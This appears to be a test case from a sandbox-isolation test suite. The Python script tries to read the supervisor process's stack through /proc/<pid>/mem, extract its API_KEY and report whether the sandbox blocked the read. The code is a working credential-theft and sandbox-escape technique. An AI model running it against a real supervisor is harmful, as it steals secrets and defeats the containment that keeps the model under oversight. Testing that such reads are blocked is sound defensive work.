# attack: fs_supervisor_mem
# category: filesystem
# attempts: open /proc/<supervisor>/mem and read the top of its stack, where its environment (API_KEY) lives
# expect: ENOENT (PID namespace) or EACCES/EPERM (ptrace access mode check, Landlock, seccomp)
# control: yes
# canaries: none
import errno


def report(kind, detail):
    print("ATTACK-RESULT:", kind, detail, flush=True)


pid = {{SUPERVISOR_PID}}
try:
    stack = None
    with open("/proc/%d/maps" % pid) as f:
        for line in f:
            if line.rstrip().endswith("[stack]"):
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                stack = (lo, hi)
    if stack is None:
        raise OSError(errno.ENOENT, "no [stack] mapping")
    lo, hi = stack
    start = max(lo, hi - 256 * 1024)
    with open("/proc/%d/mem" % pid, "rb", buffering=0) as mem:
        mem.seek(start)
        data = mem.read(hi - start)
    idx = data.find(b"API_KEY=")
    if idx >= 0:
        print(data[idx:idx + 80].split(b"\0")[0].decode("latin-1"))
    report("escaped", "read %d bytes of supervisor memory" % len(data))
except OSError as e:
    report("blocked", errno.errorcode.get(e.errno, str(e.errno)))
